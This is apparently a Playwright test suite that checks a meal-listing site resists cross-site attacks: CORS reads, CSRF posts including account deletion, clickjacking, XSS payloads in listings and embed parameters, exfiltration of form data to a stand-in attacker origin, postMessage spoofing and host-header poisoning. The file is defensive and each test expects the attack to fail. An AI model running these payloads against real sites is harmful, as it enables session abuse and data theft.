/** Attacks of another site's pages on someone who is signed in here. None of them gets through. */
import type { Page } from '@playwright/test';
import { makeCanaryListing, makeListing, makeUser } from '../factories';
import { fingerprintOf } from '../fingerprint';
import { startForeignSite } from '../foreignSite';
import { test as base, expect, mealIn } from './fixtures';

type Attack = {
  /** A page of the other site, in the victim's browser. */
  page: Page;
  /** Where the other site is, and its pages. */
  evil: Awaited<ReturnType<typeof startForeignSite>>;
  /** The victim, who hosts a listing with this ID that only they can see. */
  victim: { id: string; firstName: string | null; listingId: string };
};

const TOWN = 'Attackville';
const HOSTILE = `</bdi></a><img src=x onerror="top.hacked=1"><script>top.hacked=1</script>`;

const test = base.extend<{ attack: Attack }>({
  attack: async ({ browserOf, db }, use) => {
    const evil = await startForeignSite();
    const user = await makeUser(db, { firstName: 'Victoria' });
    const { startsAt, endsAt } = mealIn(3);
    const slots = [{ startsAt, endsAt }];
    const { id } = await makeCanaryListing(db, user, { city: TOWN, visible: false, slots });
    await makeListing(db, user, { city: TOWN, title: HOSTILE, region: HOSTILE, slots });
    const page = await browserOf(user);
    await page.goto('/explore');
    await page.goto(evil.serve('/', '<!doctype html><title>Evil</title><body></body>'));
    await use({ page, evil, victim: { ...user, listingId: id } });
    await evil.stop();
  },
});

/** Reads an address from the other site's page. @returns 'blocked' if the browser refuses */
const read = (page: Page, url: string, init: RequestInit = {}) =>
  page.evaluate(
    ([address, options]) =>
      fetch(address, options).then(
        async (response) => `${response.status} ${await response.text()}`,
        () => 'blocked',
      ),
    [url, init] as const,
  );

/** Adds a frame to the other site's page, and waits until it's loaded. */
async function addFrame(page: Page, src: string, attributes: Record<string, string> = {}) {
  await page.evaluate(
    ([address, all]) =>
      new Promise<void>((resolve) => {
        const frame = document.createElement('iframe');
        for (const [name, value] of Object.entries(all)) frame.setAttribute(name, value);
        frame.onload = () => resolve();
        frame.src = address;
        document.body.append(frame);
      }),
    [src, attributes] as const,
  );
  const frame = page.frames().at(-1);
  if (!frame) throw new Error('There is no frame.');
  return frame;
}

const OWN_READS = [
  '/api/auth/user',
  '/api/auth/session',
  '/api/listings/host',
  '/api/requests/host',
  '/api/threads',
  '/api/need',
  '/api/profile/export',
  '/api/trpc/users.viewer',
  '/profile',
];

const credentials = ['include', 'same-origin', 'omit'] as const;

for (const mode of credentials)
  test(`personal paths can’t be read, with credentials: ${mode}`, async ({ attack, app }) => {
    for (const path of OWN_READS)
      expect(await read(attack.page, app.url + path, { credentials: mode }), path).toBe('blocked');
  });

test('a public path can’t be read with credentials', async ({ attack: { page }, app }) => {
  const url = `${app.url}/api/listings/search?city=${TOWN}`;
  expect(await read(page, url, { credentials: 'include' })).toBe('blocked');
  expect(await read(page, url)).toMatch(/^200 \[/);
});

test('a hidden listing can’t be read by its host’s browser for another site', async ({
  attack: { page, victim },
  app,
}) => {
  const url = `${app.url}/api/listings/${victim.listingId}`;
  expect(await read(page, url)).toMatch(/^404 /);
  expect(await read(page, url, { credentials: 'include' })).toBe('blocked');
  const found = await read(page, `${app.url}/api/listings/search?ids=${victim.listingId}`);
  expect(found).toBe('200 []');
  expect(await read(page, `${app.url}/api/listings/search?saved=true`)).toBe('200 []');
});

test('a page of no origin reads no more than others', async ({ attack: { page, evil }, app }) => {
  const script = `fetch('${app.url}/api/auth/user', { credentials: 'include' })
    .then((r) => r.text(), () => 'blocked').then((t) => parent.postMessage(t, '*'))`;
  evil.serve('/sandbox', `<!doctype html><script>${script}</script>`);
  const answer = page.evaluate(
    () => new Promise((resolve) => addEventListener('message', ({ data }) => resolve(data))),
  );
  await addFrame(page, `${evil.url}/sandbox`, { sandbox: 'allow-scripts' });
  expect(await answer).toBe('blocked');
});

test('no request of another site changes anything', async ({
  attack: { page, victim },
  app,
  db,
}) => {
  const before = await fingerprintOf(db);
  const json = { 'Content-Type': 'application/json' };
  const body = JSON.stringify({ title: 'Hacked' });
  const writes: [path: string, init: RequestInit][] = [
    ['/api/listings', { method: 'POST', headers: json, body }],
    ['/api/listings', { method: 'POST', body }],
    ['/api/listings', { method: 'POST', mode: 'no-cors', body }],
    [`/api/listings/${victim.listingId}`, { method: 'PUT', headers: json, body }],
    ['/api/need', { method: 'DELETE' }],
    ['/api/trpc/users.deleteAccount', { method: 'POST', headers: json, body: '{"json":{}}' }],
    ['/api/trpc/users.deleteAccount', { method: 'POST', mode: 'no-cors', body: '{"json":{}}' }],
    ['/api/listings/search', { method: 'POST', mode: 'no-cors', body }],
    ['/embed', { method: 'POST', mode: 'no-cors', body: 'city=x' }],
  ];
  for (const [path, init] of writes)
    await read(page, app.url + path, { credentials: 'include', ...init });
  expect(await fingerprintOf(db)).toBe(before);
});

test('a form of another site changes nothing', async ({ attack: { page, evil }, app, db }) => {
  const before = await fingerprintOf(db);
  for (const path of ['/api/listings', '/api/logout', '/api/auth/signout', '/embed']) {
    const form = `<form method="post" action="${app.url}${path}" enctype="text/plain">
      <input name='{"title":"Hacked","x":"' value='"}'></form>`;
    await page.goto(evil.serve('/form', `<!doctype html>${form}`));
    await Promise.all([page.waitForNavigation(), page.evaluate(() => document.forms[0]?.submit())]);
  }
  expect(await fingerprintOf(db)).toBe(before);
});

test('what is left of the limit doesn’t tell what the visitor does here', async ({
  attack: { page, evil },
  app,
}) => {
  const left = () =>
    page.evaluate(async (url) => {
      const response = await fetch(url);
      return Number(/r=(\d+)/.exec(`${response.headers.get('RateLimit')}`)?.[1]);
    }, `${app.url}/api/zmanim?city=Haifa`);
  const before = await left();
  await page.goto(`${app.url}/explore?city=${TOWN}`);
  await page.evaluate((city) => fetch(`/api/listings/search?city=${city}`), TOWN);
  await page.goto(evil.url);
  expect(await left()).toBe(before - 1);
});

for (const path of [
  '/',
  '/explore',
  '/login',
  '/profile',
  '/host',
  '/docs/api',
  '/he/embed',
  '/embed/x',
])
  test(`another page can’t be framed: ${path}`, async ({ attack: { page }, app }) => {
    const frame = await addFrame(page, app.url + path);
    expect(frame.url()).toBe('chrome-error://chromewebdata/');
  });

test('the embed knows nobody, and leaves nothing behind', async ({
  attack: { page, victim },
  app,
}) => {
  const cookies = await page.context().cookies(app.url);
  const embed = await addFrame(page, `${app.url}/embed?city=${TOWN}`);
  const request = page.waitForRequest((one) => one.url().includes('/embed?'));
  await embed.locator('button').click();
  expect((await (await request).allHeaders()).cookie).toBeUndefined();
  await expect(embed.locator('h1')).toBeVisible();
  expect(await embed.locator('form').textContent()).not.toContain(victim.firstName);
  expect(await embed.locator('[href*="/login"], [href*="/profile"]').count()).toBe(0);
  expect(await embed.evaluate(() => [document.cookie, localStorage.length])).toEqual(['', 0]);
  expect(await page.context().cookies(app.url)).toEqual(cookies);
});

test('the embed runs nothing that a host has typed', async ({ attack: { page }, app }) => {
  const embed = await addFrame(page, `${app.url}/embed?city=${TOWN}`);
  await expect(embed.getByText('onerror=').first()).toBeVisible();
  expect(await embed.locator('img').count()).toBe(0);
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
});

for (const name of ['city', 'date', 'language', 'theme', 'near', 'kashrutLevel', 'x"><script>'])
  test(`the embed runs nothing that its address says: ${name}`, async ({
    attack: { page },
    app,
  }) => {
    const query = new URLSearchParams([[name, `"'><script>top.hacked=1</script>${HOSTILE}`]]);
    const embed = await addFrame(page, `${app.url}/embed?${query}`);
    await expect(embed.locator('form')).toBeVisible();
    expect(await embed.locator('script:not([src]), img').count()).toBe(0);
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
  });

test('the embed’s policy stops a script that got in anyway', async ({ attack: { page }, app }) => {
  const embed = await addFrame(page, `${app.url}/embed?city=${TOWN}`);
  const reached = await embed.evaluate(async (url) => {
    const script = document.createElement('script');
    script.textContent = 'window.ran = 1';
    document.head.append(script);
    const form = document.querySelector('form');
    if (form) form.action = `${url}/stolen`;
    form?.submit();
    const sent = await fetch(`${url}/stolen`).then(
      () => true,
      () => false,
    );
    return [sent, 'ran' in window];
  }, new URL(page.url()).origin);
  expect(reached).toEqual([false, false]);
  expect(embed.url()).toContain(`${app.url}/embed`);
});

test('a link of the embed opens a page that can’t reach the other site, or learn of it', async ({
  attack: { page },
  app,
}) => {
  const embed = await addFrame(page, `${app.url}/embed?city=${TOWN}`);
  const [opened] = await Promise.all([
    page.context().waitForEvent('page'),
    embed.locator('li a').first().click(),
  ]);
  await opened.waitForLoadState();
  expect(opened.url()).toContain(`${app.url}/listing/`);
  expect(await opened.evaluate(() => [window.opener, document.referrer])).toEqual([null, '']);
});

test('the embed tells other sites nothing of the page it’s on', async ({
  attack: { page, evil },
  app,
}) => {
  await addFrame(page, `${app.url}/embed?city=${TOWN}`);
  const seen = evil.visits.length;
  const embed = page.frames().at(-1);
  await embed?.locator('button').click();
  await expect(embed?.locator('h1') ?? page.locator('h1')).toBeVisible();
  expect(evil.visits.length).toBe(seen);
});

const withFrame = (app: { url: string }) =>
  `<!doctype html><iframe data-sukkah-meals src="${app.url}/embed?city=${TOWN}" style="height: 500px"></iframe>
  <script src="${app.url}/embed.js"></script>`;

test('another window can’t change the height of a site’s frame', async ({
  attack: { page, evil },
  app,
}) => {
  await page.goto(evil.serve('/shul', withFrame(app)));
  const height = () =>
    page
      .locator('iframe')
      .first()
      .evaluate((one) => one.clientHeight);
  await expect.poll(height).not.toBe(500);
  const before = await height();
  const attacker = evil.serve(
    '/spoof',
    `<!doctype html><script>parent.postMessage({ type: 'iframe-resized', height: 9999 }, '*'); parent.postMessage('sent', '*')</script>`,
  );
  const sent = page.evaluate(
    () =>
      new Promise<void>((resolve) =>
        addEventListener('message', ({ data }) => data === 'sent' && resolve()),
      ),
  );
  await addFrame(page, attacker, { sandbox: 'allow-scripts' });
  await sent;
  expect(await height()).toBe(before);
});

test('only the page around it gets the embed to say its height', async ({
  attack: { page, evil },
  app,
}) => {
  await addFrame(page, `${app.url}/embed?city=${TOWN}`);
  const attacker = evil.serve(
    '/sibling',
    `<!doctype html><script>addEventListener('message', ({ data }) => parent.postMessage({ leaked: data }, '*'));
    parent.frames[0].postMessage({ type: 'iframe-child-init' }, '*');
    parent.frames[0].postMessage({ type: 'iframe-get-child-dimensions' }, '*');</script>`,
  );
  await page.evaluate(() => {
    Object.assign(window, { heard: [] });
    addEventListener('message', ({ data }) =>
      (window as never as { heard: unknown[] }).heard.push(data),
    );
  });
  await addFrame(page, attacker);
  // The frame handles messages in order: once it has answered this page, it has handled the others.
  await page.evaluate(() => window.frames[0]?.postMessage({ type: 'iframe-child-init' }, '*'));
  const heard = () =>
    page.evaluate(() => (window as never as { heard: { type?: string }[] }).heard);
  await expect
    .poll(async () => (await heard()).map(({ type }) => type))
    .toContain('iframe-resized');
  expect((await heard()).every((one) => !('leaked' in one))).toBe(true);
});

test('a feed that a browser opens runs nothing', async ({ attack: { page }, app }) => {
  for (const name of ['atom', 'ics']) {
    const response = await page.request.get(`${app.url}/api/listings/search.${name}?city=${TOWN}`);
    expect(response.headers()['x-content-type-options']).toBe('nosniff');
    expect(response.headers()['content-type']).not.toContain('html');
    if (name === 'atom') expect(await response.text()).not.toContain('<script');
  }
});

test('a request with another site’s name poisons nothing', async ({ attack: { page }, app }) => {
  const path = `${app.url}/api/listings/search?city=${TOWN}`;
  const headers = {
    Origin: 'https://evil.example',
    'X-Forwarded-Host': 'evil.example',
    'X-Forwarded-Proto': 'https',
    Forwarded: 'host=evil.example',
    'X-Original-URL': '/profile',
    'X-Sukkah-Language': 'he',
  };
  for (const address of [
    path,
    path.replace('search?', 'search.atom?'),
    `${app.url}/embed?city=${TOWN}`,
  ]) {
    const poisoned = await page.request.get(address, { headers });
    const clean = await page.request.get(address);
    for (const response of [poisoned, clean]) {
      expect(await response.text()).not.toContain('evil.example');
      expect(JSON.stringify(response.headers())).not.toContain('evil.example');
    }
  }
});
